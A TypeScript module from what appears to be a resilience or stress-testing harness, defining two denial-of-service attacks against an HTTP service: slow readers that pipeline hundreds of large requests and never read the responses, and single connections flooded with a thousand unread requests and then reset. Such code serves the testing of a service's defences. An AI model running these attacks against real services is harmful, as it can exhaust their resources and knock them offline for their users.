import { type Attack, addressesOf, openMany, pause } from './attack.ts';

const READERS = 100;
/** Together more than the kernel buffers for one connection. */
const PIPELINED = 200;
const HOLD_MS = 45_000;

/** Requests large responses and reads none of them. */
export const slowReaders: Attack = async ({ url, signal, count }) => {
  for (let round = 0; !signal.aborted; round++) {
    const sockets = await openMany(url, addressesOf(4, round, READERS), READERS);
    for (const socket of sockets) {
      socket.pause();
      socket.write('GET /openapi.json HTTP/1.1\r\nHost: siege.example\r\n\r\n'.repeat(PIPELINED));
    }
    await pause(HOLD_MS, signal);
    // Only a socket that reads notices that its peer has closed.
    for (const socket of sockets) socket.resume();
    await pause(1000, AbortSignal.timeout(1000));
    for (const socket of sockets) {
      count(socket.destroyed || socket.readableEnded ? 'closed by the service' : 'still open');
      socket.destroy();
    }
  }
};

const FLOOD = 1000;

/** A thousand requests on one connection, the responses unread; then the same with a reset. */
export const unreadPipelines: Attack = async ({ url, signal, count }) => {
  for (let round = 0; !signal.aborted; round++) {
    for (const path of ['/healthz', '/openapi.json', '/nope']) {
      const [socket] = await openMany(url, addressesOf(5, round, 1), 1);
      if (socket === undefined) continue;
      socket.pause();
      socket.write(`GET ${path} HTTP/1.1\r\nHost: siege.example\r\n\r\n`.repeat(FLOOD));
      await pause(2000, signal);
      socket.resetAndDestroy();
      count(`${path} reset`);
    }
  }
};
